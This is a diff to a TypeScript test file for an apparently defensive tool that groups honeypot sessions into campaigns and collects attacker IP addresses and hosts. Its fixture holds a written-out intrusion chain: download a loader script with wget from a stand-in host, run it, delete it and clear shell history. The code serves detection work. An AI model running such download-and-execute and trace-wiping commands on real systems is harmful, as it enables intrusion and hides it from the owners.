@@ -2,6 +2,7 @@
 import { describe, expect, test } from "bun:test";
 import { type CollectOptions, collectIndicators } from "../../../lib/indicators/collect-indicators.ts";
 import { defang, type Indicator, INDICATOR_TYPE_NAMES } from "../../../lib/indicators/indicator.ts";
+import { findSessionCampaigns } from "../../../lib/indicators/session-campaigns.ts";
 import { KeepOut } from "../../../lib/indicators/keep-out.ts";
 import { type Seen, Sightings } from "../../../lib/indicators/sightings.ts";
 import { type LogEvent, NOON_MS, readEvents } from "../../support/event-logs.ts";
@@ -102,6 +103,34 @@ describe("collectIndicators()", () => {
   });
 });
 
+test("campaigns are those of campaigns.ts; of one only what its sessions show", async () => {
+  const chain = (session: string, src_ip: string, host: string, seconds: number): LogEvent[] => [
+    at("session.connect", seconds, { session, src_ip }),
+    ...["cd /tmp", `wget http://${host}/kestrel-loader.sh`, "sh kestrel-loader.sh --quiet", "rm kestrel-loader.sh", "history -c -w"].map((input, i) =>
+      at("command.input", seconds + i, { session, src_ip, input }),
+    ),
+  ];
+  using set = await readEvents([
+    ...chain("s1", "5.6.7.8", "7.7.7.7", 0),
+    ...chain("s2", "4.4.4.4", "7.7.7.7", 100),
+    at("session.connect", 200, { session: "s3", src_ip: "3.3.3.3" }),
+    at("session.connect", 300, { session: "s4", src_ip: "5.6.7.8" }),
+  ]);
+  const keepOut = new KeepOut({ excluded: [], keepsReserved: false });
+  const options = { types: ["address", "host"] as const, scope: {}, keepOut, minSensors: 1, minHits: 1 };
+  const all = await findSessionCampaigns(set, {}, []);
+  const [id = "", ...others] = all.campaigns.keys();
+  expect({ others, is: /^[0-9a-f]{8}$/.test(id) }).toEqual({ others: [], is: true });
+  const named = await collectIndicators(set, { ...options, campaigns: all });
+  expect(named.indicators.map(({ value, hits, campaigns }) => [value, hits, campaigns])).toEqual([
+    ["5.6.7.8", 2, [id]], ["3.3.3.3", 1, []], ["4.4.4.4", 1, [id]], ["7.7.7.7", 2, [id]],
+  ]);
+  const one = await collectIndicators(set, { ...options, campaigns: await findSessionCampaigns(set, {}, [id.slice(0, 4)]) });
+  expect(one.indicators.map(({ value, hits }) => [value, hits])).toEqual([["4.4.4.4", 1], ["5.6.7.8", 1], ["7.7.7.7", 2]]);
+  expect([...one.byDay()].map(({ indicators }) => indicators.length)).toEqual([3]);
+  await expect(findSessionCampaigns(set, {}, ["0000"])).rejects.toThrow('Cannot find one campaign "0000" in these logs');
+});
+
 test("sums of many sightings agree with plain sets, in any order", () => {
   for (let seed = 1; seed <= 20; seed++) {
     const random = seededRandom(seed);
@@ -128,7 +157,7 @@ test("sums of many sightings agree with plain sets, in any order", () => {
       lastUs: Math.max(...of(value).map(({ us }) => us)),
       sensors: new Set(of(value).map(({ sensor }) => sensor)).size,
     }));
-    const found = [...sightings.totals(() => true)].map(({ bySensor, lastSession: _, ...rest }) => ({ ...rest, sensors: bySensor.length }));
+    const found = [...sightings.totals(() => true)].map(({ bySensor, lastSession: _, inSessions: __, ...rest }) => ({ ...rest, sensors: bySensor.length }));
     expect({ seed, found }).toEqual({ seed, found: expected });
   }
 });
